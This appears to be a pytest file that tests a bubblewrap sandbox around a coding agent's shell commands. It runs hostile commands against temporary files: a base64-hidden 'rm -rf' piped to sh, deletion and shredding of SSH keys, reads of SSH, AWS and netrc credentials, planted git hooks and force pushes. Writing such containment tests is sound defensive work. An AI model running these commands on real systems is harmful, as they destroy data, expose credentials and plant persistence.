"""The OS sandbox (bubblewrap) around commands: real ``bwrap``, real files, real sockets.

Every test runs a real command through the one shell runner with a :class:`Sandbox` and checks
what happened on the host: a write that must not land did not, a file that must stay secret was
not printed, a listener that must not be reached counted no connection.
"""

from __future__ import annotations

import base64
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kiso.tools.sandbox import Sandbox, SandboxPolicy, denial, probe
from kiso.tools.shell import CommandResult, run_command


def test_bubblewrap_is_here() -> None:
    """scripts/system-deps installs it; without it every test below fails, never skips."""
    assert probe() is None, probe()


SECRET = "s3cret-key-material"


@pytest.fixture
def box(tmp_path: Path) -> dict[str, Path]:
    """A workspace (a git repository), a home with credentials and dot files, a KISO_HOME and a
    directory outside the workspace, all real."""
    ws, home, kiso_home, outside = (tmp_path / n for n in ("ws", "home", "kiso", "outside"))
    for d in (ws, home / ".ssh", home / ".aws", kiso_home / "projects", outside / "keep"):
        d.mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (home / ".ssh" / "k7").write_text("key seven")
    (home / ".aws" / "credentials").write_text(SECRET)
    (home / ".bashrc").write_text("export PATH=$PATH\n")
    (home / ".netrc").write_text(f"machine x password {SECRET}\n")
    (kiso_home / "projects" / "log.jsonl").write_text(SECRET)
    (outside / "keep" / "data.txt").write_text("precious")
    git = ["git", "-c", "user.email=t@t", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q", str(ws)], check=True)
    (ws / "a.txt").write_text("a\n")
    subprocess.run([*git, "-C", str(ws), "add", "a.txt"], check=True)
    subprocess.run([*git, "-C", str(ws), "commit", "-qm", "a"], check=True)
    return {"ws": ws, "home": home, "kiso": kiso_home, "outside": outside}


def env_for(box: dict[str, Path]) -> dict[str, str]:
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(box["home"]),
        "KISO_HOME": str(box["kiso"]),
        "LANG": "C.UTF-8",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }


def run(
    box: dict[str, Path], command: str, mode: str = "workspace-write", *, network: bool = False
) -> CommandResult:
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(mode, network), box["ws"], environ=env)
    assert sandbox is not None and sandbox.available
    return run_command(command, cwd=box["ws"], env=env, timeout_ms=60_000, sandbox=sandbox)


def test_a_write_inside_the_workspace_works_and_outside_it_fails(box: dict[str, Path]) -> None:
    inside = run(box, "echo made > new.txt && mkdir -p sub && echo deep > sub/f && cat new.txt")
    assert inside.exit_code == 0, inside.output
    assert (box["ws"] / "new.txt").read_text() == "made\n"
    assert (box["ws"] / "sub" / "f").read_text() == "deep\n"
    for target in (box["outside"] / "x", box["home"] / "x", Path("/etc/kiso-sandbox-test")):
        out = run(box, f"echo no > {target}")
        assert out.exit_code != 0 and "Read-only file system" in out.output, out.output
        assert not target.exists()
    # a temporary directory is there, writable, and kept from one command to the next
    sandbox, env = _sandbox(box), env_for(box)
    for command, said in (('echo kept > "$TMPDIR/t"', ""), ('cat "$TMPDIR/t"', "kept")):
        out = run_command(command, cwd=box["ws"], env=env, timeout_ms=60_000, sandbox=sandbox)
        assert (out.exit_code, out.output.strip()) == (0, said), out.output


def test_credentials_cannot_be_read(box: dict[str, Path]) -> None:
    out = run(
        box,
        "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.netrc; "
        "cat $KISO_HOME/projects/log.jsonl; ls -a ~/.ssh; grep -r s3cret ~ 2>/dev/null; true",
    )
    assert SECRET not in out.output
    assert "id_ed25519" not in out.output.replace("/.ssh/id_ed25519:", "")
    # the same reads without the sandbox show the secret: the test can see a leak
    plain = run_command("cat ~/.ssh/id_ed25519", cwd=box["ws"], env=env_for(box), timeout_ms=60_000)
    assert SECRET in plain.output


@pytest.fixture
def listener() -> Iterator[tuple[int, list[int]]]:
    """A real TCP listener on loopback that counts the connections it accepts."""
    server = socket.create_server(("127.0.0.1", 0))
    accepted: list[int] = []
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.1)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            accepted.append(1)
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


def test_the_network_is_cut_off_unless_allowed(
    box: dict[str, Path], listener: tuple[int, list[int]]
) -> None:
    port, accepted = listener
    probe_cmd = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""
    cut = run(box, probe_cmd)
    assert cut.exit_code != 0 and "Connection refused" in cut.output
    assert accepted == []
    assert denial(_sandbox(box), cut.exit_code, cut.output) is not None
    allowed = run(box, probe_cmd, network=True)
    assert allowed.exit_code == 0, allowed.output
    assert accepted == [1]  # the connection was accepted before the command could exit


def _sandbox(box: dict[str, Path]) -> Sandbox:
    made = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env_for(box))
    assert made is not None
    return made


def test_every_bypass_of_the_floor_is_contained(box: dict[str, Path]) -> None:
    """The commands that ran in bypass mode before the sandbox existed."""
    home, outside = box["home"], box["outside"]
    hidden = base64.b64encode(f"rm -rf {outside}/keep; echo pwned > {home}/.profile".encode())
    remote = outside / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    attacks = [
        f"echo {hidden.decode()} | base64 -d | sh",
        f"python3 -c \"import shutil; shutil.rmtree('{outside}/keep')\"",
        "x=.ssh; rm -rf ~/$x/k7",
        "shred -u ~/.ssh/k7",
        ": > ~/.bashrc",
        "echo 'touch /tmp/owned' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        "git config core.hooksPath /tmp",
        f"git push --force {remote} HEAD:main",
        "git push --force https://example.com/x.git HEAD:main",
    ]
    for command in attacks:  # what they did is checked below, on the host
        run(box, command)
    assert (outside / "keep" / "data.txt").read_text() == "precious"
    assert not (home / ".profile").exists()
    assert (home / ".ssh" / "k7").read_text() == "key seven"
    assert (home / ".bashrc").read_text() == "export PATH=$PATH\n"
    assert not (box["ws"] / ".git" / "hooks" / "post-commit").exists()
    assert "hooksPath" not in (box["ws"] / ".git" / "config").read_text()
    refs = subprocess.run(
        ["git", "-C", str(remote), "show-ref"], capture_output=True, text=True, check=False
    )
    assert refs.stdout == ""  # nothing was pushed
    # ...while the work a coding agent does in its workspace still works, commits included
    work = run(box, "echo b >> a.txt && git commit -qam b && git log --oneline | wc -l")
    assert work.exit_code == 0, work.output
    assert work.output.split()[-1] == "2"


def test_read_only_mode_writes_nothing_anywhere(box: dict[str, Path]) -> None:
    out = run(box, "cat a.txt && echo x > a.txt", "read-only")
    assert out.exit_code != 0 and out.output.startswith("a\n")
    assert "Read-only file system" in out.output
    assert (box["ws"] / "a.txt").read_text() == "a\n"


def test_a_cancelled_sandboxed_command_leaves_no_process(box: dict[str, Path]) -> None:
    token = f"kiso-sandbox-{os.getpid()}-{id(box)}"
    marker = box["ws"] / "started"
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["ws"], environ=env)
    assert sandbox is not None
    started = threading.Event()

    def cancelled() -> bool:
        if marker.exists():
            started.set()
        return started.is_set()

    out = run_command(
        f"(exec -a {token} sleep 600) & (exec -a {token} sleep 600) & touch started; wait",
        cwd=box["ws"],
        env=env,
        timeout_ms=120_000,
        cancelled=cancelled,
        sandbox=sandbox,
    )
    assert out.cancelled
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if token.encode() in cmdline and state != "Z":
            alive.append(pid)
    assert alive == []


def test_a_result_says_when_the_sandbox_probably_stopped_a_command(box: dict[str, Path]) -> None:
    sandbox = _sandbox(box)
    out = run(box, f"echo x > {box['outside']}/f")
    assert denial(sandbox, out.exit_code, out.output) is not None
    assert denial(sandbox, 0, out.output) is None  # a command that succeeded was not stopped
    assert denial(sandbox, 1, "ordinary failure") is None


def test_a_subagent_worktree_inside_kiso_home_stays_usable(box: dict[str, Path]) -> None:
    """A delegated child works in $KISO_HOME/worktrees/<id>: the rest of KISO_HOME stays hidden."""
    tree = box["kiso"] / "worktrees" / "child"
    tree.mkdir(parents=True)
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), tree, environ=env)
    assert sandbox is not None
    out = run_command(
        f"echo ok > done && cat {box['kiso']}/projects/log.jsonl; ls {box['kiso']}",
        cwd=tree,
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    assert (tree / "done").read_text() == "ok\n"
    assert SECRET not in out.output


def test_credentials_stay_hidden_when_the_workspace_is_the_home(box: dict[str, Path]) -> None:
    env = env_for(box)
    sandbox = Sandbox.for_workspace(SandboxPolicy(), box["home"], environ=env)
    assert sandbox is not None
    out = run_command(
        "cat ~/.ssh/id_ed25519; echo new > notes.txt",
        cwd=box["home"],
        env=env,
        timeout_ms=60_000,
        sandbox=sandbox,
    )
    assert SECRET not in out.output
    assert (box["home"] / "notes.txt").read_text() == "new\n"
